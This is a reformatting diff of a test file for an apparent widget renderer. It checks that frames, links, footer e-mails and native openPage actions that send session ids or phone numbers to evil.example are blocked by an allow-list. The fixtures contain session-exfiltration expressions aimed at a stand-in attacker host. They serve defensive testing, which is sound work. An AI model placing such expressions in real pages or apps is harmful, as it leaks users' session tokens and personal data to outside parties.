@@ -120,7 +120,17 @@ describe('frames and links', () => {
   it('a frame, a header link and a footer e-mail built from session values: the notice, no link, no line', async () => {
     const s = await show([
       { type: 'web-frame', src: "='https://evil.example/frame?sid=' + session.sessionId", title: 'Agreement' },
-      { type: 'site-header', brand: 'Hatid', brandTo: '//evil.example', items: [{ text: 'Home', to: '/' }, { text: 'Out', to: '//evil.example/x' }], current: '/', onNavigate: [] },
+      {
+        type: 'site-header',
+        brand: 'Hatid',
+        brandTo: '//evil.example',
+        items: [
+          { text: 'Home', to: '/' },
+          { text: 'Out', to: '//evil.example/x' },
+        ],
+        current: '/',
+        onNavigate: [],
+      },
       { type: 'site-footer', company: 'Hatid', email: "=session.mobilePhone + '@evil.example'", phone: '(02) 8812 4400' },
     ] as WidgetNode[]);
     expect(screen.getByText("This document can't be shown here.")).toBeTruthy();
@@ -161,10 +171,10 @@ describe('actions that open or hand on an address', () => {
   });
 
   it('native openPage with an outside address is refused before the bridge; an app page is handed on', async () => {
-    const s = await tapping([
-      { do: 'native', action: 'openPage', args: { url: "='https://evil.example/p?sid=' + session.sessionId" } },
-    ]);
-    await waitFor(() => expect(s.ports.logs).toEqual([{ pointer: '/body/0/onTap/0', message: expect.stringContaining('evil.example is not on the allowed list') }]));
+    const s = await tapping([{ do: 'native', action: 'openPage', args: { url: "='https://evil.example/p?sid=' + session.sessionId" } }]);
+    await waitFor(() =>
+      expect(s.ports.logs).toEqual([{ pointer: '/body/0/onTap/0', message: expect.stringContaining('evil.example is not on the allowed list') }]),
+    );
     expect(s.ports.nativeCalls).toEqual([]);
     cleanup();
     const ok = await tapping([{ do: 'native', action: 'openPage', args: { url: '/complaintList' } }]);
